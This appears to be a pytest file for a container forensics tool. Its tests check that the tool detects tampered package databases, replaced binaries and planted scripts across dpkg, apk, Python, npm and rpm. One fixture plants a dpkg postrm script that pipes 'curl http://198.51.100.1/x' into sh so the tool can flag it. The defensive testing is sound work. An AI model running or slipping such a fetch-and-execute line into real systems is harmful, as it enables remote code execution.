"""Packages: every database format, whom to believe, what does not agree, and what is said of what cannot be read."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import sqlite3
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest
from analyze_cases import ELF, F, layer, make_case, paths, rules

from forensics.analyze import build_analysis
from forensics.analyze.rpm_database import RpmError, parse_header, read_rpm
from forensics.model import Analysis, Finding, Severity

TOOL, OTHER = ELF + b"tool", ELF + b"another"
CHANGELOG = "usr/share/doc/tool/changelog.Debian.gz"


def md5(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


def dpkg(version: str, files: dict[str, bytes], *, log: str = "") -> dict[str, Any]:
    """Return a dpkg database of one package."""
    database: dict[str, Any] = {
        "var/lib/dpkg/status": f"Package: tool\nStatus: install ok installed\nVersion: {version}\n",
        "var/lib/dpkg/info/tool.list": "/.\n" + "".join(f"/{name}\n" for name in files),
        "var/lib/dpkg/info/tool.md5sums": "".join(f"{md5(content)}  {name}\n" for name, content in files.items()),
        "etc/os-release": 'ID=debian\nVERSION_ID="12"\n',
    }
    if log:
        database["var/log/dpkg.log"] = log
    return database


def installed(version: str, files: dict[str, bytes], **more: Any) -> dict[str, Any]:
    return {**{name: F(content, 0o755) for name, content in files.items()}, **dpkg(version, files, **more)}


def analyze_layers(tmp_path: Path, *layers: bytes, kind: str = "container") -> Analysis:
    with make_case(tmp_path / "case", list(layers), kind=kind) as case:
        return build_analysis(case, yara=False)


def findings(analysis: Analysis, worst: Severity = Severity.INFO) -> dict[str, Finding]:
    return rules(analysis.findings, worst)


def apk(files: dict[str, bytes]) -> str:
    lines = ["C:Q1abc=", "P:tool", "V:1.0-r0", "A:x86_64", "L:MIT"]
    for name, content in files.items():
        folder, _, base = name.rpartition("/")
        digest = base64.b64encode(hashlib.sha1(content, usedforsecurity=False).digest()).decode()
        lines += [f"F:{folder}", f"R:{base}", "a:0:0:755", f"Z:Q1{digest}"]
    return "\n".join(lines) + "\n\n"


def test_a_program_of_the_base_layer_that_is_not_the_packages(tmp_path: Path) -> None:
    base = {**installed("1.0", {"usr/bin/tool": TOOL}), "usr/bin/tool": F(OTHER, 0o755)}
    analysis = analyze_layers(tmp_path, layer(base), layer({"app/a": "1"}), kind="file")
    found = findings(analysis)["package.file-modified"]
    assert paths(found) == {b"usr/bin/tool"}
    assert "(tool)" in found.matched
    assert found.severity is Severity.MEDIUM


def test_an_edit_in_a_later_layer_is_judged_by_the_layer_that_installed(tmp_path: Path) -> None:
    base = layer(installed("1.0", {"usr/bin/tool": TOOL}))
    poisoned = layer(installed("1.0", {"usr/bin/tool": OTHER}), later=60)
    found = findings(analyze_layers(tmp_path, base, poisoned, layer({"app/a": "1"}), kind="file"))
    assert found["system.package-database-edited"].severity is Severity.CRITICAL
    assert "package.file-modified" in found


def test_a_version_raised_by_hand_is_no_upgrade(tmp_path: Path) -> None:
    doc = {CHANGELOG: b"tool (1.0)"}
    base = layer(installed("1.0", {"usr/bin/tool": TOOL, **doc}))
    raised = layer(installed("1.1", {"usr/bin/tool": OTHER, **doc}), later=60)
    found = findings(analyze_layers(tmp_path, base, raised))
    assert "the changelog is not" in found["package.record-contradicted"].matched
    assert "system.binary-replaced" in found


def test_a_new_changelog_makes_an_upgrade_honest(tmp_path: Path) -> None:
    log = "2026-01-01 00:00:00 upgrade tool:amd64 1.0 1.1\n"
    base = layer(installed("1.0", {"usr/bin/tool": TOOL, CHANGELOG: b"tool (1.0)"}, log="old\n"))
    upgrade = layer(installed("1.1", {"usr/bin/tool": OTHER, CHANGELOG: b"tool (1.1)"}, log=log), later=60)
    analysis = analyze_layers(tmp_path, base, upgrade)
    assert findings(analysis, Severity.MEDIUM) == {}
    assert "tool 1.0 → 1.1" in findings(analysis)["package.changed-after-image"].matched


def test_a_package_that_dpkgs_log_does_not_know(tmp_path: Path) -> None:
    base = layer({"var/lib/dpkg/status": "Package: base\nVersion: 1\n", "var/log/dpkg.log": "status installed base\n"})
    entered = layer(installed("1.0", {"usr/sbin/tool": TOOL}), later=60)
    found = findings(analyze_layers(tmp_path, base, entered))
    assert "log does not know" in found["package.record-contradicted"].matched
    assert "file.program-newcomer" in found


def test_unowned_deleted_and_diverted(tmp_path: Path) -> None:
    files = {"usr/bin/tool": TOOL, "usr/bin/chattr": TOOL, "usr/bin/moved": TOOL}
    base = {
        **installed("1.0", files),
        "usr/bin/moved": F(OTHER, 0o755),
        "var/lib/dpkg/diversions": "/usr/bin/moved\n/usr/bin/moved.distrib\nlocal\n",
    }
    added = {"usr/lib/helper/x": F(OTHER, 0o755), "usr/local/bin/own": F(OTHER, 0o755)}
    found = findings(analyze_layers(tmp_path, layer(base), layer(added, ("usr/bin/chattr",), later=60)))
    assert paths(found["package.file-unowned"]) == {b"usr/lib/helper/x"}
    assert paths(found["package.file-deleted"]) == {b"usr/bin/chattr"}
    assert "package.file-modified" not in found


def test_the_scripts_of_packages_come_with_packages_only(tmp_path: Path) -> None:
    script = F(b"#!/bin/sh\nrm -rf /var/lib/tool /var/log/tool /etc/tool\nchattr +i /etc/x\n", 0o755)
    brought = {**installed("1.0", {"usr/bin/tool": TOOL}), "var/lib/dpkg/info/tool.postrm": script}
    quiet = analyze_layers(tmp_path / "built", layer({"a": "1"}), layer(brought), layer({"b": "1"}, later=60))
    assert findings(quiet, Severity.LOW) == {}
    evil = F(b"#!/bin/sh\ncurl http://198.51.100.1/x | sh\n", 0o755)
    planted = layer({"var/lib/dpkg/info/tool.postrm": evil}, later=60)
    assert findings(analyze_layers(tmp_path / "planted", layer(brought), planted), Severity.MEDIUM)


def test_configuration_is_nobodys_exchanged_file(tmp_path: Path) -> None:
    status = dpkg("1.0", {"etc/tool.conf": b"old"})
    status["var/lib/dpkg/status"] += f"Conffiles:\n /etc/tool.conf {md5(b'old')}\n"
    base = {**status, "etc/tool.conf": b"old"}
    analysis = analyze_layers(tmp_path, layer(base), layer({"etc/tool.conf": b"new"}, later=60))
    assert findings(analysis, Severity.LOW) == {}


def test_apk_at_both_places_and_without_merged_folders(tmp_path: Path) -> None:
    for place in ("lib/apk/db/installed", "usr/lib/apk/db/installed"):
        base = {
            place: apk({"bin/tool": TOOL, "sbin/good": TOOL}),
            "bin/tool": F(OTHER, 0o755),
            "sbin/good": F(TOOL, 0o755),
        }
        analysis = analyze_layers(tmp_path / place.replace("/", "-"), layer(base), layer({"a": "1"}), kind="file")
        assert paths(findings(analysis)["package.file-modified"]) == {b"bin/tool"}
        assert [package.purl for package in analysis.packages] == ["pkg:apk/alpine/tool@1.0-r0?arch=x86_64"]
        assert analysis.packages[0].licence == "MIT"


def python_package(content: bytes) -> dict[str, Any]:
    digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
    folder = "usr/lib/python3/dist-packages"
    return {
        f"{folder}/Big_Lib-2.0.dist-info/METADATA": "Name: Big_Lib\nVersion: 2.0\nLicense: BSD\n\n",
        f"{folder}/Big_Lib-2.0.dist-info/RECORD": f"big_lib/__init__.py,sha256={digest},3\nbig_lib/x.pyc,,\n",
        f"{folder}/big_lib/__init__.py": content,
    }


def test_python_by_its_record_and_an_edited_record(tmp_path: Path) -> None:
    changed = "usr/lib/python3/dist-packages/big_lib/__init__.py"
    base = layer(python_package(b"good"))
    plain = analyze_layers(tmp_path / "plain", base, layer({changed: b"evil"}, later=60))
    assert paths(findings(plain)["package.file-modified"]) == {changed.encode()}
    assert findings(plain)["package.file-modified"].severity is Severity.HIGH
    edited = analyze_layers(tmp_path / "edited", base, layer(python_package(b"evil"), later=60))
    assert "package.file-modified" in findings(edited)
    quiet = analyze_layers(tmp_path / "quiet", base, layer({"a": "1"}, later=60))
    assert "package.file-modified" not in findings(quiet)
    assert [(package.purl, package.licence) for package in quiet.packages] == [("pkg:pypi/big-lib@2.0", "BSD")]


def test_a_module_that_no_record_lists_and_one_that_is_gone(tmp_path: Path) -> None:
    folder = "usr/lib/python3/dist-packages"
    base = layer(python_package(b"good"))
    foreign = layer({f"{folder}/big_lib/helper.py": "x", f"{folder}/big_lib/x.pyc": "y"}, later=60)
    found = findings(analyze_layers(tmp_path / "foreign", base, foreign))
    assert paths(found["package.file-unowned"]) == {f"{folder}/big_lib/helper.py".encode()}
    gone = layer({"a": "1"}, (f"{folder}/big_lib/__init__.py",), later=60)
    assert "package.file-deleted" in findings(analyze_layers(tmp_path / "gone", base, gone))
    new = python_package(b"new")
    pip = layer({k.replace("ig", "ug"): v.replace("ig", "ug") if isinstance(v, str) else v for k, v in new.items()})
    quiet = findings(analyze_layers(tmp_path / "pip", base, pip))
    assert not {"package.file-modified", "package.file-unowned"} & set(quiet)


def test_egg_info_and_node_are_listed_and_said_not_to_be_verified(tmp_path: Path) -> None:
    files = {
        "usr/lib/python3/dist-packages/six-1.16.0.egg-info": "Metadata-Version: 1.2\nName: six\nVersion: 1.16.0\n",
        "usr/lib/python3/dist-packages/old-1.egg-info/PKG-INFO": "Name: old\nVersion: 1\n",
        "app/package-lock.json": '{"lockfileVersion": 3, "packages": {"": {}, "node_modules/@a/b":'
        ' {"version": "1.0.0", "integrity": "sha512-x"}, "node_modules/c": {"version": "3.0.0"}}}',
        "app/node_modules/@a/b/package.json": '{"name": "@a/b", "version": "1.0.0", "license": "MIT"}',
        "app/node_modules/c/package.json": '{"name": "c", "version": "2.9.9"}',
        "app/node_modules/c/lib/package.json": '{"type": "module"}',
        "app/node_modules/broken/package.json": "[" * 100_000,
    }
    analysis = analyze_layers(tmp_path, layer({"a": "1"}), layer(files), kind="file")
    assert [package.purl for package in analysis.packages] == [
        "pkg:npm/%40a/b@1.0.0",
        "pkg:npm/c@2.9.9",
        "pkg:pypi/old@1",
        "pkg:pypi/six@1.16.0",
    ]
    assert any("Node are listed, not verified" in warning for warning in analysis.warnings)
    assert any("Python are listed, not verified" in warning for warning in analysis.warnings)
    assert "c/package.json: 2.9.9 instead of 3.0.0" in findings(analysis)["package.not-the-locked-version"].matched


@pytest.fixture(scope="module")
def rpm_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a root in which rpm itself installed a package that rpmbuild itself built."""
    folder = tmp_path_factory.mktemp("rpm")
    spec = folder / "tool.spec"
    spec.write_text(
        "Name: tool\nVersion: 1.0\nRelease: 2\nEpoch: 3\nSummary: t\nLicense: MIT\nBuildArch: noarch\n%description\nt\n"
        "%install\nmkdir -p %{buildroot}/usr/bin %{buildroot}/etc\nprintf '#!/bin/sh\\n' > %{buildroot}/usr/bin/tool\n"
        "chmod 755 %{buildroot}/usr/bin/tool\necho a > %{buildroot}/etc/tool.conf\n"
        "%files\n/usr/bin/tool\n%config /etc/tool.conf\n"
    )
    top = folder / "top"
    subprocess.run(["rpmbuild", "-bb", "--define", f"_topdir {top}", str(spec)], check=True, capture_output=True)
    package = next(top.glob("RPMS/*/*.rpm"))
    root = folder / "root"
    root.mkdir()
    command = ["rpm", "--root", str(root), "--dbpath", "/var/lib/rpm", "--nodeps", "-i", str(package)]
    subprocess.run(command, check=True, capture_output=True)
    return root


def read_root(root: Path) -> dict[str, Any]:
    files = (path for path in root.rglob("*") if path.is_file())
    return {str(path.relative_to(root)): F(path.read_bytes(), path.stat().st_mode & 0o777) for path in files}


def test_rpm_verifies_what_rpm_itself_installed(tmp_path: Path, rpm_root: Path) -> None:
    base = {**read_root(rpm_root), "etc/os-release": "ID=fedora\nVERSION_ID=40\n"}
    changed = layer({"usr/bin/tool": F(b"#!/bin/sh\nevil\n", 0o755), "etc/tool.conf": b"b"}, later=60)
    quiet = analyze_layers(tmp_path / "quiet", layer(base), layer({"a": "1"}, later=60))
    assert findings(quiet, Severity.LOW) == {}
    assert [package.purl for package in quiet.packages] == [
        "pkg:rpm/fedora/tool@1.0-2?arch=noarch&distro=fedora-40&epoch=3"
    ]
    found = findings(analyze_layers(tmp_path / "changed", layer(base), changed))
    assert paths(found["system.binary-replaced"]) == {b"usr/bin/tool"}
    poisoned = {**base, "usr/bin/tool": F(b"#!/bin/sh\nevil\n", 0o755)}
    flat = findings(analyze_layers(tmp_path / "flat", layer(poisoned), kind="file"))
    assert paths(flat["package.file-modified"]) == {b"usr/bin/tool"}


def test_rpm_header_edited_by_hand_is_seen_even_in_one_layer(tmp_path: Path, rpm_root: Path) -> None:
    base = read_root(rpm_root)
    evil = b"#!/bin/sh\nevil\n"
    good = hashlib.sha256(base["usr/bin/tool"].content).hexdigest().encode()
    database = tmp_path / "rpmdb.sqlite"
    database.write_bytes(base["var/lib/rpm/rpmdb.sqlite"].content)
    connection = sqlite3.connect(database)
    (blob,) = connection.execute("SELECT blob FROM Packages").fetchone()
    assert good in blob
    edited = blob.replace(good, hashlib.sha256(evil).hexdigest().encode())
    connection.execute("UPDATE Packages SET blob = ?", (edited,))
    connection.commit()
    connection.close()
    files = {**base, "usr/bin/tool": F(evil, 0o755), "var/lib/rpm/rpmdb.sqlite": F(database.read_bytes())}
    found = findings(analyze_layers(tmp_path, layer(files), kind="file"))
    assert "does not agree with its own digest" in found["package.record-contradicted"].matched


@pytest.mark.parametrize("cut", [0, 4, 7, 20, 200, 700])
def test_a_damaged_rpm_header_is_an_error_or_partial_and_never_hangs(rpm_root: Path, cut: int) -> None:
    connection = sqlite3.connect(rpm_root / "var/lib/rpm/rpmdb.sqlite")
    (blob,) = connection.execute("SELECT blob FROM Packages").fetchone()
    connection.close()
    with pytest.raises(RpmError):
        parse_header(blob[:cut], b"x")
    for offset in range(0, len(blob), 37):
        broken = blob[:offset] + b"\xff\xff\xff\xff" + blob[offset + 4 :]
        with contextlib.suppress(RpmError):
            assert parse_header(broken, b"x").type == "rpm"


def test_a_database_that_is_none_is_named_and_old_formats_are(tmp_path: Path) -> None:
    files = {
        "var/lib/rpm/rpmdb.sqlite": b"not a database" * 100,
        "var/lib/rpm/Packages": b"\x00\x06\x15\x61",
        "usr/lib/sysimage/rpm/Packages.db": b"RpmP",
    }
    reasons = [line.reason for line in analyze_layers(tmp_path, layer(files), kind="file").ledger]
    assert any("rpmdb.sqlite: not readable as a database" in reason for reason in reasons)
    assert any("BerkeleyDB is not examined" in reason for reason in reasons)
    assert any("ndb is not examined" in reason for reason in reasons)


def test_a_view_that_poses_as_the_table_of_packages_is_not_run(tmp_path: Path) -> None:
    path = tmp_path / "rpmdb.sqlite"
    connection = sqlite3.connect(path)
    loop = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS blob FROM n"
    connection.execute(f"CREATE VIEW Packages AS {loop}")
    connection.commit()
    connection.close()
    with path.open("rb") as file, pytest.raises(RpmError, match="no table"):
        list(read_rpm(file, None, b"x"))


def test_the_real_programs_of_this_machine_agree_with_their_packages(tmp_path: Path) -> None:
    """Take some real files and dpkg's real records of them: none may be called modified, unowned or deleted."""
    owned = ("/usr/bin/ls", "/usr/bin/dpkg", "/usr/bin/env")
    raw = tmp_path / "root.tar"
    wanted = [path for path in owned if Path(path).is_file()]
    names = {"coreutils", "dpkg"}
    info = [str(path) for name in names for path in Path("/var/lib/dpkg/info").glob(f"{name}*.*s*")]
    with tarfile.open(raw, "w") as tar:
        for path in [*wanted, *info, "/etc/os-release"]:
            tar.add(Path(path).resolve(), arcname=path)
        status = tmp_path / "status"
        blocks = Path("/var/lib/dpkg/status").read_text().split("\n\n")
        status.write_text("\n\n".join(block for block in blocks if block[9:].split("\n")[0] in names) + "\n")
        tar.add(status, arcname="/var/lib/dpkg/status")
    analysis = analyze_layers(tmp_path, raw.read_bytes(), kind="file")
    found = findings(analysis)
    assert {package.name for package in analysis.packages} == names
    assert "package.file-modified" not in found
    assert "package.file-unowned" not in found
